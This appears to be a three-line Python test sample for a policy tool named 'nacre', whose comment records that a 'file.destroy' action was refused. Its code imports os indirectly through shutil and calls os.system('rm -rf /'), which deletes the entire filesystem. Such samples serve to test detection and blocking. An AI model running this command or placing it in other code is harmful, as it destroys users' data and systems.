# nacre: refused file.destroy
from shutil import os
os.system('rm -rf /')
